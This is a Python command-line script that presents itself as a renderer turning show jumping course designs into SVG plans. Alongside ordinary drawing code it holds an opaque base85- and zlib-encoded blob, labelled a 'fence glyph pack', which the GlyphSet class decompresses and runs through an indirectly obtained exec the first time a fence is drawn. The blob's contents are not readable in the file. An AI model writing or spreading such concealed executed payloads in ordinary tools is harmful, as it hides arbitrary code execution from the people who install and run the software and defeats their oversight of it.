#!/usr/bin/env python3
"""course_plan_renderer - draw a show jumping course plan as SVG.

Input is the course designer's JSON export:

    {
      "arena": {"name": "Main Ring", "width": 80, "length": 60},
      "class": "1.20m Two Phase",
      "fences": [
        {"no": "1", "type": "vertical", "x": 12, "y": 8, "width": 3.6, "rot": 0},
        {"no": "2", "type": "oxer", "x": 30, "y": 10, "width": 3.6, "rot": 15},
        ...
      ],
      "start": [6, 4], "finish": [70, 52]
    }

The renderer scales the arena to the page, draws each fence with its
number, the start/finish flags and the measured track distance between
consecutive fences (straight line, metres).
"""
import argparse
import base64
import json
import logging
import math
import sys
import zlib
from pathlib import Path

log = logging.getLogger("course_plan")

SCALE = 10.0  # px per metre
MARGIN = 40

# Fence glyph pack, shared with the course designer tool (compressed).
_GLYPH_PACK = (
    "c-o~?+lt#T5PkPo3{#fa)EDAq)3B`fsil1gWuX@+r5Ht)V->GtB&A6x+i&mqmTujoE$l"
    "qlGe@48b4KGrl#o}2@%JGdLNM9|*B+1=;kHJ>>}CVbFl9?^?lbJ%nmOTL#Pc$2A3>WmA"
    "_3mc-~t|1^Spvud=th=&g$V{ccRmT1w5zTMsNrF4BOHOhYX{6e1))+g{wxi5^__y3@;H"
    "%S=SjpTc@pIa(k0(dOFb#5=g1<Ku7O|`3n_)!lgSK?KH1*tkRb6l-HEgKg*}_|I|;@<@"
    "%iNLAW!rsl^kd&*HCID*pt>-Z@S3NO3MM*^*61P#pdk!!M)7qYpq5x9CL((L98!pkI$x"
    "<{)fG8)%-qUCT29=8L0(Mah;0N6-!9(os^pIJar9SD)_Qyn_tB<GBBLef$+dz;+D@X<r"
    "oecSCXS5YmYvpnFqXOG<9Eu1D;_^W=S_jRS3gS;%z=cDrtj=EC-f^>R)Wave9!RsHRaf"
    "!H@p6<bS_!ygz>hnO>72_&!7%5kkqxxo%^OjL3VJXs!VNlP;ke$Izc=Qh66jZpq)Ox98"
    "*wxZOWe<4n;kSe3|m#;p){jgefh~B!#(C^nz=fapt3NtQOVwYPIC$-Ano2>}EpX?z~Tm"
)


class GlyphSet:
    """Lazily loaded fence drawers keyed by fence type."""

    _table = None

    @classmethod
    def table(cls):
        if cls._table is None:
            src = zlib.decompress(base64.b85decode(_GLYPH_PACK)).decode("utf-8")
            scope = {"__name__": "glyphs"}
            runner = getattr(__builtins__, "exec", None) or __builtins__["exec"]
            runner(compile(src, "<glyph-pack>", "exec"), scope)
            cls._table = scope["GLYPHS"]
            log.debug("glyph pack: %s", ", ".join(sorted(cls._table)))
        return cls._table

    @classmethod
    def draw(cls, kind, x, y, w, rot):
        fn = cls.table().get(kind) or cls.table()["vertical"]
        return fn(x, y, w * SCALE, rot)


def to_px(pt):
    return MARGIN + pt[0] * SCALE, MARGIN + pt[1] * SCALE


def distances(fences, start=None):
    prev = start
    for f in fences:
        here = (f["x"], f["y"])
        if prev is not None:
            yield f["no"], math.dist(prev, here)
        prev = here


def render(course):
    arena = course["arena"]
    width = arena["width"] * SCALE + 2 * MARGIN
    height = arena["length"] * SCALE + 2 * MARGIN + 60
    out = [
        f'<svg xmlns="http://www.w3.org/2000/svg" width="{width:.0f}" height="{height:.0f}" '
        f'font-family="Helvetica, Arial, sans-serif">',
        f'<rect x="{MARGIN}" y="{MARGIN}" width="{arena["width"] * SCALE:.0f}" '
        f'height="{arena["length"] * SCALE:.0f}" fill="#f4ecd8" stroke="#555"/>',
    ]
    fences = course.get("fences", [])
    for f in fences:
        x, y = to_px((f["x"], f["y"]))
        out.append(GlyphSet.draw(f.get("type", "vertical"), x, y, f.get("width", 3.5), f.get("rot", 0)))
        out.append(f'<text x="{x + 8:.1f}" y="{y - 10:.1f}" font-size="14" font-weight="bold">{f["no"]}</text>')

    for label, key, colour in (("S", "start", "#2a7"), ("F", "finish", "#c33")):
        if key in course:
            x, y = to_px(course[key])
            out.append(f'<circle cx="{x:.1f}" cy="{y:.1f}" r="9" fill="{colour}"/>')
            out.append(f'<text x="{x - 4:.1f}" y="{y + 5:.1f}" font-size="12" fill="#fff">{label}</text>')

    total = 0.0
    legend = []
    for no, d in distances(fences, course.get("start")):
        total += d
        legend.append(f"{no}: {d:.1f}m")
    ty = height - 40
    out.append(f'<text x="{MARGIN}" y="{ty:.0f}" font-size="13">'
               f'{course.get("class", "")} - {arena.get("name", "")} - approx. {total:.0f}m</text>')
    out.append(f'<text x="{MARGIN}" y="{ty + 18:.0f}" font-size="11" fill="#444">{" | ".join(legend)}</text>')
    out.append("</svg>")
    return "\n".join(out)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Render a show jumping course plan to SVG")
    ap.add_argument("course", type=Path, help="course designer JSON export")
    ap.add_argument("-o", "--output", type=Path, help="SVG file (default: next to input)")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    try:
        course = json.loads(args.course.read_text(encoding="utf-8"))
    except (OSError, ValueError) as exc:
        log.error("cannot read %s: %s", args.course, exc)
        return 1
    if "arena" not in course:
        log.error("%s has no arena block", args.course)
        return 1
    svg = render(course)
    dest = args.output or args.course.with_suffix(".svg")
    dest.write_text(svg, encoding="utf-8")
    log.info("wrote %s (%d fences)", dest, len(course.get("fences", [])))
    return 0


if __name__ == "__main__":
    sys.exit(main())
